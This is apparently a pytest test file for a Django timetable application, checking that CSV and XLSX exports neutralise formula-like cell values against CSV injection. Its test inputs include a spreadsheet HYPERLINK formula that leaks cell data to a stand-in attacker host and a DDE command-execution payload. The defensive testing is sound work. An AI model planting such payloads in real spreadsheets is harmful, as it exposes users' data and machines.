"""Exports never hand a spreadsheet a formula: text starting with = + - @, TAB or CR stays text (OWASP's CSV
injection guidance), readable as it is, and imports back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from college.domain.imports import import_table, table_bytes
from college.models import InterestGroup, Teacher, Timetable
from tests.college.factories import load_tiny_college, make_timetable_with_session

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
STARTS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def timetable() -> Timetable:
    load_tiny_college()
    return make_timetable_with_session(status="published")


def export(client: Client, timetable: Timetable, fmt: str) -> bytes:
    response = client.get(f"/api/v1/timetables/{timetable.pk}/export", {"format": fmt})  # anonymous: public
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("name", STARTS)
def test_the_anonymous_xlsx_export_writes_formula_like_names_as_text(
    client: Client, timetable: Timetable, name: str
) -> None:
    InterestGroup.objects.filter(key="taichi").update(name=name)  # stored before validation existed
    data = export(client, timetable, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    cell = load_workbook(io.BytesIO(data)).active["D2"]
    as_xml_reads_it = name.replace("\r", "\n")  # XML turns a bare CR into LF
    assert (cell.value, cell.data_type, cell.quotePrefix) == (as_xml_reads_it, "s", True)


@pytest.mark.parametrize("name", STARTS)
def test_the_csv_export_prefixes_formula_like_names_with_a_quote(
    client: Client, timetable: Timetable, name: str
) -> None:
    InterestGroup.objects.filter(key="taichi").update(name=name)
    rows = list(csv.reader(io.StringIO(export(client, timetable, "csv").decode("utf-8-sig"), newline="")))
    assert rows[1][3] == "'" + name


def test_plain_names_and_numbers_are_exported_as_they_are(client: Client, timetable: Timetable) -> None:
    rows = list(csv.reader(io.StringIO(export(client, timetable, "csv").decode("utf-8-sig"))))
    assert rows[1][3] == "太极班"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_phone_number_with_a_plus_exports_safely_and_imports_back_unchanged(timetable: Timetable, fmt: str) -> None:
    Teacher.objects.filter(key="wang").update(phone="+86 138 0000 0001")
    data = table_bytes("teachers", fmt)
    report = import_table("teachers", data, f"t.{fmt}", dry_run=False)
    assert ([r.action for r in report.rows], report.problems) == (["unchanged", "unchanged"], [])
    assert Teacher.objects.get(key="wang").phone == "+86 138 0000 0001"
